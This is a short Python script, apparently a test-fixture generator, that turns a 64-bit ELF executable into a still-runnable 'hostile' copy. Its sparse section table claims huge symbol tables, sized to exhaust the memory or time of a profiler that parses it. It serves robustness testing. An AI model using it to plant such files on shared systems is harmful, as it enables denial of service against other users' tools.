#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""make-hostile-elf.py IN OUT NSECTIONS

A copy of the 64-bit ELF executable IN that still runs (the kernel reads only program
headers) with NSECTIONS section headers at 1 GB into a sparse file, each a 64 MB symbol
table somewhere in the hole: what any user can leave on a server for a profiler to read.
Extended numbering (the count in section 0) when NSECTIONS does not fit e_shnum.
"""
import os
import struct
import sys

SHDR = '<IIQQQQIIQQ'  # name, type, flags, addr, offset, size, link, info, addralign, entsize
SHT_SYMTAB = 2


def main():
    src, dst, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    data = bytearray(open(src, 'rb').read())
    if data[:4] != b'\x7fELF' or data[4] != 2:
        sys.exit('make-hostile-elf: %s is not a 64-bit ELF file' % src)
    shoff = 1 << 30
    extended = n >= 0xff00
    struct.pack_into('<Q', data, 0x28, shoff)                 # e_shoff
    struct.pack_into('<H', data, 0x3c, 0 if extended else n)  # e_shnum
    struct.pack_into('<H', data, 0x3e, 0)                     # e_shstrndx
    with open(dst, 'wb') as f:
        f.write(data)
        f.seek(shoff)
        f.write(struct.pack(SHDR, 0, 0, 0, 0, 0, n if extended else 0, 0, 0, 0, 0))
        hdrs = bytearray()
        for i in range(1, n):
            off = (i * 4096 * 37) % (shoff - (64 << 20))
            hdrs += struct.pack(SHDR, 1, SHT_SYMTAB, 0, 0, off, 64 << 20, min(i + 1, n - 1), 1,
                                8, 24)
        f.write(hdrs)
    os.chmod(dst, 0o755)


if __name__ == '__main__':
    main()
